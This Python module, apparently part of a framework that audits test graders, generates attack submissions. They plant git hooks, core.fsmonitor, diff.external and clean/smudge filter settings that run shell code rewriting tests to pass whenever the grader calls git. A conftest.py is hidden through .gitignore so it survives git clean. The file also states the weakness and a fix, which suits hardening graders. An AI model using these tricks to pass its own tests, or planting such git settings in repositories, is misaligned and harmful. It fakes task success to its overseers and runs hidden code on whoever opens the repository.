"""Hooks, settings and attributes of git that come with the submission."""

from __future__ import annotations

import re
from collections.abc import Iterator

from acidtest.audit.bench import Bench
from acidtest.audit.example import Package
from acidtest.audit.repository.attack import PYTEST, UNITTEST, Plan, RepositoryAttack
from acidtest.audit.repository.outcomes import PLUGIN
from acidtest.audit.repository.outcomes import UNITTEST as PATCHED
from acidtest.audit.repository.scene import Scene
from acidtest.audit.repository.specimens import GIT, GIT_RESTORES, twice
from acidtest.audit.repository.suite import folders_of, passing_suite, tests_of

BAD, GOOD = twice(GIT, "ran.ok", more=GIT_RESTORES)
CALLED = re.compile(r"\bgit\b(?! *ignore)")
HOOKS = (
    "post-checkout",
    "pre-commit",
    "post-commit",
    "post-merge",
    "post-applypatch",
    "pre-applypatch",
    "post-index-change",
    "reference-transaction",
    "pre-auto-gc",
    "post-rewrite",
)
SETTINGS = """
[core]
\trepositoryformatversion = 0
\tfilemode = true
\tbare = false
\thooksPath = .git/hooks
\tfsmonitor = .git/hooks/post-checkout
[diff]
\texternal = .git/hooks/post-checkout
[filter "well"]
\tclean = sh .git/hooks/post-checkout && cat
\tsmudge = sh .git/hooks/post-checkout && cat
"""
ATTRIBUTES = "* filter=well\n"


class Trick(RepositoryAttack):
    """The grader calls git in a repository whose `.git` folder is the submission's.

    Before the tests are run the grader puts them back with `git checkout`, takes the `git diff`, applies a patch.
    git then starts what the repository's own hooks and settings name: `post-checkout`, `core.fsmonitor`,
    `diff.external`, filters of `.gitattributes`. These write the tests anew when they have just been put back. And
    what `.gitignore` names survives `git clean`.
    """

    code = "I658"
    weakness = "git runs what the submission's repository tells it to"
    fix = "Grade in a fresh clone whose .git folder is the grader's own, with core.hooksPath=/dev/null and core.fsmonitor=false; take from the submission a patch or files, never .git or .gitattributes."
    kinds = (34, 31)
    out_of_sight = "its grading does not call git"
    bad = Package(BAD, kind="code")
    good = Package(GOOD, kind="code")

    def in_sight(self, scene: Scene) -> bool:
        """Say whether git is called."""
        return bool(CALLED.search(scene.commands))

    def plans(self, scene: Scene, bench: Bench) -> Iterator[Plan]:
        """Hooks that write passing tests; the same by settings and filters; what is ignored by git clean."""
        spoils = spoiling(scene)
        if spoils:
            hooks = {f".git/hooks/{name}": "#!/bin/sh\n" + writing(spoils) for name in HOOKS}
            unread = Plan(what="", files={f"unread/{name.rsplit('/', 1)[-1]}": text for name, text in hooks.items()})
            yield Plan(what="brings hooks of git that write the tests anew", files=hooks, executable=tuple(hooks), inert=unread)
            own = scene.given.get(".git/config", "")
            more = {**hooks, ".git/config": own + SETTINGS, ".gitattributes": ATTRIBUTES}
            yield Plan(
                what="brings settings and attributes of git that write the tests anew", files=more, executable=tuple(hooks), inert=unread
            )
        if PYTEST.search(scene.said):
            planted = {folder + "conftest.py": PLUGIN for folder in folders_of(tests_of(scene))}
            ignored = {".gitignore": scene.given.get(".gitignore", "") + "\nconftest.py\n.gitignore\n"}
            yield Plan(
                what="brings a conftest.py that git is told to ignore", files={**planted, **ignored}, inert=Plan(what="", files=planted)
            )


def spoiling(scene: Scene) -> dict[str, str]:
    """Give what must stand in the work folder for the tests to pass: emptied tests, and hooks of the runners."""
    files = dict(passing_suite(scene))
    files |= {path.split("/", 1)[1]: text for path, text in passing_suite(scene).items() if path.count("/") > 1}
    if PYTEST.search(scene.said):
        files = {**files, "conftest.py": PLUGIN}
    return files or ({"sitecustomize.py": PATCHED} if UNITTEST.search(scene.said) else {})


def writing(files: dict[str, str]) -> str:
    """Give lines of a shell that write files, from the top of the repository."""
    parts = ['cd "$(git rev-parse --show-toplevel 2>/dev/null || pwd)" || exit 0']
    for path, text in files.items():
        folder = path.rpartition("/")[0]
        parts += [f"mkdir -p '{folder}'"] if folder else []
        parts.append(f"cat > '{path}' <<'END_OF_FILE'\n{text}\nEND_OF_FILE")
    return "\n".join(parts) + "\n"
